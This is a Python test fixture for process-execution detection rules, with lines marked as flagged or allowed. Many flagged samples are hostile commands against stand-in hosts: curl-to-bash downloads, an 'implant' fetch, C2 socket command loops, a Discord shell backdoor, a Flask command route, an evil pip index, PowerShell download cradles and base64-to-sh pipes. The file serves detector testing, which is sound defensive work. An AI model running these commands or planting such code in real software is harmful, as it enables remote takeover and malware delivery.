# Annotated examples for process-execution rules (default set).
import os
import subprocess
import asyncio

import discord
import flask
import subprocess as sp
from os import system as run_shell

# ruleid: AIR-PROC-001
os.system("ls -la")
# ruleid: AIR-PROC-001
run_shell("uptime")
# ruleid: AIR-PROC-001
listing = os.popen("df -h").read()
# ruleid: AIR-PROC-001
out = subprocess.getoutput("whoami")
# ruleid: AIR-PROC-001
getattr(os, "sys" + "tem")("id")
# ruleid: AIR-PROC-001
__import__("os").system("id")


def system(cmd: str) -> str:
    """A local helper that happens to be called system."""
    return cmd.upper()


# ok: AIR-PROC-001
system("not a shell")

# ruleid: AIR-PROC-002
subprocess.run("grep -r TODO .", shell=True)
# ruleid: AIR-PROC-002
sp.Popen("make all", shell=1)
# ok: AIR-PROC-002
subprocess.run(["grep", "-r", "TODO", "."], shell=False)

# ruleid: AIR-PROC-003
subprocess.run(["git", "status"], check=True)
# ruleid: AIR-PROC-003
sp.check_output(["python3", "--version"])
# ruleid: AIR-PROC-003
asyncio.create_subprocess_exec("ls")
# ok: AIR-PROC-003
status = {"run": 1}.get("run")

# ruleid: AIR-PROC-004
os.execv("/bin/sh", ["sh", "-c", "id"])
# ruleid: AIR-PROC-004
os.spawnlp(os.P_WAIT, "ls", "ls")
# ok: AIR-PROC-004
os.path.join("a", "b")

# ruleid: AIR-PROC-005
os.system("curl -fsSL http://203.0.113.7/i.sh | bash")
# ruleid: AIR-PROC-005
subprocess.run("wget -qO- https://example.net/x | sudo sh", shell=True)
# ruleid: AIR-PROC-005
cmd = "cu" + "rl -s https://example.net/a.sh | b" + "ash"
# ruleid: AIR-PROC-005
os.system("curl -s http://203.0.113.7/x -o /tmp/x; chmod +x /tmp/x; /tmp/x")
# ruleid: AIR-PROC-005
os.system("wget -q http://203.0.113.7/implant --output-document=/dev/shm/.k && chmod 755 /dev/shm/.k")
# ok: AIR-PROC-005
os.system("curl -sSL https://example.org/data.csv -o data.csv && wc -l data.csv")
# ok: AIR-PROC-005
os.system("wget -O report.pdf https://example.org/r.pdf; chmod 644 report.pdf")
# ok: AIR-PROC-005
note = "download with curl -O and inspect the file before running it"

target = input()
# ruleid: AIR-PROC-006
os.system("convert " + target + " out.png")
# ruleid: AIR-PROC-006
os.popen(f"ping -c 1 {target}")
# ok: AIR-PROC-006
os.system("date")

import base64
import socket

CMD = "aWQ="
# ruleid: AIR-PROC-007
os.system(base64.b64decode(CMD).decode())
decoded = bytes.fromhex("6964").decode()
# ruleid: AIR-PROC-007
subprocess.run(decoded, shell=True)
# ok: AIR-PROC-007
os.system("echo " + base64.b64encode(b"x").decode())

c2 = socket.create_connection(("203.0.113.7", 8443))
order = c2.recv(1024).decode().strip()
# ruleid: AIR-PROC-008
result = subprocess.getoutput(order)
# ok: AIR-PROC-008
subprocess.run(["echo", "done"])

chat = discord.Client(intents=discord.Intents.all())


@chat.event
async def on_message(message):
    if message.content.startswith(".shell"):
        # ruleid: AIR-PROC-008
        output = subprocess.getoutput(message.content[7:])
        await message.channel.send(output)
    # ok: AIR-PROC-008
    subprocess.run(["notify-send", "message received"])


web = flask.Flask(__name__)


@web.route("/run")
def run_remote():
    # ruleid: AIR-PROC-008
    return os.popen(flask.request.args.get("c")).read()


async def remote_loop():
    reader, _writer = await asyncio.open_connection("203.0.113.7", 8443)
    line = await reader.readline()
    # ruleid: AIR-PROC-008
    await asyncio.create_subprocess_shell(line.decode())

import socket
import urllib.request

sock = socket.create_connection(("c2.example", 8080))
shell = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
# ruleid: AIR-PROC-009
shell.stdin.write(sock.recv(1024))
remote = urllib.request.urlopen("http://example.org/cmd").read().decode()
# ruleid: AIR-PROC-009
os.execl("/bin/sh", "sh", "-c", remote)
# ok: AIR-PROC-009
shell.stdin.write(b"echo hello\n")
fd = os.memfd_create("payload", 0)
# ruleid: AIR-PROC-010
os.execv(f"/proc/self/fd/{fd}", ["payload"])
# ok: AIR-PROC-010
os.execv("/usr/bin/python3", ["python3", "-V"])

import sys

# ruleid: AIR-PROC-011
subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "http://203.0.113.9/pkgs/requestz-2.0.tar.gz"])
# ruleid: AIR-PROC-011
os.system("pip3 install --extra-index-url http://pypi.evil.example/simple requests")
# ok: AIR-PROC-011
subprocess.run([sys.executable, "-m", "pip", "install", "requests==2.32.3"], check=True)
# ok: AIR-PROC-011
subprocess.run(["pip", "install", "git+https://github.com/openai/whisper.git"], check=True)

# ruleid: AIR-PROC-012
subprocess.run(["powershell", "-NoP", "-W", "Hidden", "-enc", "SQBFAFgA"])
# ruleid: AIR-PROC-012
os.system("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')\"")
# ok: AIR-PROC-012
subprocess.run(["pwsh", "-File", "scripts/build.ps1"], check=True)

blob = "Y3VybCB4IHwgc2g="
# ruleid: AIR-PROC-013
os.system(f"echo {blob} | base64 -d | sh")
# ruleid: AIR-PROC-013
os.system("echo 6964 | xxd -r -p | bash")
# ok: AIR-PROC-013
subprocess.run("base64 -d payload.b64 > decoded.bin", shell=True)

import pty

# ruleid: AIR-PROC-014
pty.spawn("/bin/bash")
# ruleid: AIR-PROC-014
os.system("sh")
# ruleid: AIR-PROC-014
subprocess.call(["/bin/sh", "-i"])
# ruleid: AIR-PROC-014
os.execv("/bin/sh", ["sh"])
# ruleid: AIR-PROC-014
subprocess.Popen(["\\windows\\system32\\cmd.exe"], stdin=subprocess.PIPE)
# ok: AIR-PROC-014
subprocess.run(["bash", "scripts/build.sh"], check=True)
# ok: AIR-PROC-014
subprocess.run(["sh", "-c", "make test"], check=True)
# ok: AIR-PROC-014
subprocess.run(["bash"], input="echo hi\n", text=True, check=True)
# ok: AIR-PROC-014
os.system("shasum -a 256 file.bin")

# ruleid: AIR-PROC-005
os.system("curl https://cdn.example.net/build.py -o %TEMP%/start.pyw && py %TEMP%/start.pyw")
# ruleid: AIR-PROC-005
os.system("certutil -urlcache -f https://example.net/a.exe a.exe && start a.exe")
# ok: AIR-PROC-005
os.system("curl -o report.json https://api.example.com/report && cat report.json")

import win32com.client  # noqa: E402

# ruleid: AIR-PROC-015
win32com.client.Dispatch("WScript.Shell").Run("powershell -nop -w hidden -enc SQBFAFgA")
# ok: AIR-PROC-015
workbook = win32com.client.Dispatch("Excel.Application")
